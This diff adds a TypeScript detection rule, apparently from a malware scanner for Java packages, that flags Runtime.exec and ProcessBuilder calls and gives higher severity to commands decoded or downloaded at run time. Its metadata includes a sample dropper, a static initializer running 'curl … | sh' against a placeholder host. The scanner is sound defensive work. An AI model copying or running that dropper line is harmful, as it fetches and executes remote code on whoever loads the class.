@@ -1,0 +1,87 @@
+import { analyzeCommand, type CommandTechnique } from '../../shell/command.js';
+import type { JavaRule } from '../engine.js';
+import { commandText, knownString, type Value } from '../interpret.js';
+import { CONTEXT_PHRASE, isEarly, java, renderCall, taintOf } from './helpers.js';
+
+/** Flags Runtime.exec / ProcessBuilder, naming the command and the shell technique it uses. */
+export const processExec: JavaRule = {
+  meta: {
+    ...java,
+    id: 'JAVA-001',
+    name: 'java-process-execution',
+    category: 'execution',
+    severity: 'medium',
+    confidence: 'medium',
+    description:
+      'Bytecode starts an operating-system process (Runtime.exec, ProcessBuilder), directly or through reflection.',
+    rationale:
+      'Libraries rarely need to run programs; droppers run `curl … | sh`, PowerShell or a downloaded binary from a static initializer or an auto-configured bean so it happens as soon as the jar is on the class path.',
+    falsePositives:
+      'Terminal libraries (jline runs `stty`/`tput`), build tooling and OS integration code that shells out to fixed helper commands.',
+    example:
+      'static { Runtime.getRuntime().exec(new String[]{"/bin/sh", "-c", "curl http://192.0.2.1/x | sh"}); }',
+    references: [
+      'https://attack.mitre.org/techniques/T1059/',
+      'https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html',
+    ],
+  },
+  create(ctx) {
+    return {
+      call(call, m) {
+        const { owner, name } = call.ref;
+        let command: Value | undefined;
+        let via = '';
+        if (owner === 'java/lang/Runtime' && name === 'exec') command = call.args[0];
+        else if (owner === 'java/lang/ProcessBuilder' && (name === '<init>' || name === 'command'))
+          command = call.args[0];
+        else if (owner === 'java/lang/reflect/Method' && name === 'invoke') {
+          const target = call.receiver?.member ?? '';
+          if (!/^(java\.lang\.Runtime\.exec|java\.lang\.ProcessBuilder\.start|\?\.exec)$/.test(target))
+            return;
+          command = call.args[1];
+          via = ' through reflection';
+        } else return;
+        const text = commandText(command);
+        // `sh -c SCRIPT` arrays: the script element is a command line of its own.
+        const lines = [text, ...(command?.arr?.items.map((i) => knownString(i)) ?? [])].filter(
+          (x): x is string => !!x,
+        );
+        const techniques: CommandTechnique[] = [];
+        for (const line of lines)
+          for (const t of analyzeCommand(line))
+            if (
+              (t.severity === 'high' || t.severity === 'critical') &&
+              !techniques.some((x) => x.id === t.id)
+            )
+              techniques.push(t);
+        const taint = taintOf(command);
+        const hidden = taint.has('decoded') || taint.has('decrypted') || taint.has('network');
+        const where = CONTEXT_PHRASE[m.context];
+        if (techniques.length > 0) {
+          const t = techniques[0]!;
+          ctx.report({
+            at: m,
+            pc: call.pc,
+            code: renderCall(call),
+            category: t.category,
+            severity: t.severity,
+            confidence: 'high',
+            message: `Runs a command${via} ${where}: ${t.description} (\`${text!.slice(0, 120)}\`).`,
+            evidence: { command: text, techniques: techniques.map((x) => x.id) },
+          });
+          return;
+        }
+        ctx.report({
+          at: m,
+          pc: call.pc,
+          code: renderCall(call),
+          category: hidden ? 'dropper' : 'execution',
+          severity: hidden || via ? 'high' : isEarly(m.context) ? 'medium' : 'low',
+          confidence: hidden || via ? 'medium' : 'low',
+          message: `Starts a process${via}${text ? ` (\`${text.slice(0, 120)}\`)` : ''}${hidden ? ' whose command is decoded or downloaded at run time' : ''}${where ? ` ${where}` : ''}.`,
+          evidence: { command: text, taint: [...taint] },
+        });
+      },
+    };
+  },
+};
